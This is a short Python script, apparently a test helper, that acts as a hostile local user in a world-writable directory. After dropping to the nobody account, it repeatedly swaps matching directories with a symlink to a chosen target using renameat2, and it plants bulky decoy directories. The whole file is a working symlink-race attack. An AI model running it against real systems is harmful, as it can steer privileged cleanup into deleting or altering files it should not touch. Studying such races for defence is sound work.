"""Another user who renames and replaces what lies in a directory that everybody may write to.

DIRECTORY and COUNTER are descriptors. Every directory in DIRECTORY whose name matches PATTERN is exchanged with a
symbolic link to TARGET, again and again, and sometimes renamed. The number of swaps so far is in the file COUNTER.
Where no name matches, the directory PLANTED is made: a dead run, so full that emptying it takes a while.

python intruder.py DIRECTORY COUNTER PATTERN TARGET [PLANTED]
"""

import ctypes
import os
import re
import stat
import sys

NOBODY = 65534
EXCHANGE = 2
MANY = 2000
renameat2 = ctypes.CDLL(None, use_errno=True).renameat2


def plant(directory: int, name: str) -> None:
    os.mkdir("new", dir_fd=directory)
    for file in ("lock", "states", *(f"file{number}" for number in range(MANY))):
        os.close(os.open(f"new/{file}", os.O_CREAT | os.O_EXCL | os.O_WRONLY, dir_fd=directory))
    os.rename("new", name, src_dir_fd=directory, dst_dir_fd=directory)


def main() -> None:
    directory, counter, pattern, target = int(sys.argv[1]), int(sys.argv[2]), re.compile(sys.argv[3]), sys.argv[4]
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    os.symlink(target, "link", dir_fd=directory)
    swaps = 0
    while True:
        if len(sys.argv) > 5:
            swaps += swap_planted(directory, sys.argv[5])
        else:
            for name in os.listdir(directory):
                if pattern.fullmatch(name) and exchange(directory, name):
                    swaps += 1
                    hide(directory, swaps, target)
            if not os.path.lexists(f"/proc/self/fd/{directory}/link"):  # nothing could be exchanged any more
                os.symlink(target, "link", dir_fd=directory)
        os.pwrite(counter, swaps.to_bytes(8, "little"), 0)


def exchange(directory: int, name: str) -> bool:
    return renameat2(directory, name.encode(), directory, b"link", ctypes.c_uint(EXCHANGE)) == 0


def swap_planted(directory: int, name: str) -> bool:
    """Plant what is missing, else swap it and the link."""
    if exchange(directory, name):
        return True
    if not os.path.lexists(f"/proc/self/fd/{directory}/link"):  # that is where the directory was
        os.rename(name, "link", src_dir_fd=directory, dst_dir_fd=directory)
    plant(directory, name)
    return False


def hide(directory: int, number: int, target: str) -> None:
    """Every seventh time, what is under the name of the link now goes to another one."""
    if number % 7:
        return
    try:
        if stat.S_ISDIR(os.stat("link", dir_fd=directory, follow_symlinks=False).st_mode):
            os.rename("link", f"moved{number}", src_dir_fd=directory, dst_dir_fd=directory)
            os.symlink(target, "link", dir_fd=directory)
    except OSError:
        return


if __name__ == "__main__":
    main()
